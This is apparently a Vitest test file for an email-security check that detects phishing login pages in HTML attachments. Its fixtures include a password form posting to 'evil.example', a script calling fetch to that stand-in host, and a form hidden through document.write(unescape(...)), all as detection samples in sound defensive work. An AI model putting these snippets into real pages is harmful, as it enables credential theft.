import { describe, expect, test } from 'vitest';
import { loginPage as check } from '../../../src/checks/attachment/login-page.ts';
import { recorded } from '../a-mail.ts';
import { examine } from '../facts-of.ts';
import { aMailWith, passedOn } from './a-mail-with.ts';

const page = (content: string, name = 'invoice.html') => ({ name, type: 'text/html', content: `<html>${content}` });
const login = '<form action="https://evil.example/take"><input name="u"><input type="password"></form>';

describe('finds', () => {
  test('a page that asks for a password and sends it elsewhere', async () => {
    const said = await examine(check, aMailWith([page(login)]));
    expect(said.says).toEqual(['high check_attachment_login_page_sends']);
    expect(said.proof[0]).toBe('attachment: invoice.html');
    expect(said.proof[1]).toMatch(/^form: /);
  });

  test.each([
    [
      'a card number sent by a script',
      '<input name="cardnumber"><script>fetch("https://evil.example/x")</script>',
      'high check_attachment_login_page_script',
    ],
    [
      'a page that its script writes out',
      `<script>document.write(unescape('${encodeURIComponent(login)}'))</script>`,
      'high check_attachment_login_page_sends',
    ],
    [
      'a page that keeps what it asks for, weakly',
      '<input type="password"><script>decrypt()</script>',
      'low check_attachment_login_page',
    ],
    [
      'a form without a password, weakly',
      '<form action="https://survey.example/"><input name="q"></form>',
      'low check_attachment_login_page_form',
    ],
    [
      'a service for encrypted messages, as a remark',
      '<form action="https://res.cisco.com:443/envelopeopener"><input name="msg"><input type="password"></form>',
      'note check_attachment_login_page_known',
    ],
  ])('%s', async (_, content, expected) => {
    expect((await examine(check, aMailWith([page(content)]))).says).toEqual([expected]);
  });

  test.each([
    [
      'fields that misplaced tags keep out of their form',
      `<input type="password"><table><form action="https://evil.example/"></form></table>`,
      '_sends',
    ],
    [
      'a page kept encoded, wherever it sends',
      `<script>document.write(unescape('${encodeURIComponent('<input type="password" id="p"><b>')}'))</script>`,
      '_hidden',
    ],
  ])('%s', async (_, content, key) => {
    expect((await examine(check, aMailWith([page(content)]))).says).toEqual([`high check_attachment_login_page${key}`]);
  });

  test("the sender's own form, as a remark", async () => {
    const mail = aMailWith([page(login.replace('evil.example', 'forms.shop.example'))], {
      'Authentication-Results': recorded('dkim=pass header.d=shop.example'),
    });
    expect((await examine(check, mail)).says).toEqual(['note check_attachment_login_page_known']);
  });

  test('one that somebody passed on, a step lower', async () => {
    expect((await examine(check, passedOn(aMailWith([page(login)])))).says).toEqual([
      'medium check_attachment_login_page_sends',
    ]);
  });
});

test('is clear: a page to be read', async () => {
  const search = '<form action="/search"><input name="q"></form>';
  expect((await examine(check, aMailWith([page(`<p>Report</p>${search}<script>sort()</script>`)]))).kind).toBe('clear');
});

test('not applicable: no page', async () => {
  expect((await examine(check, aMailWith([{ name: 'a.pdf', content: '%PDF-1.7' }]))).says).toEqual([
    'because_no_attached_page',
  ]);
});
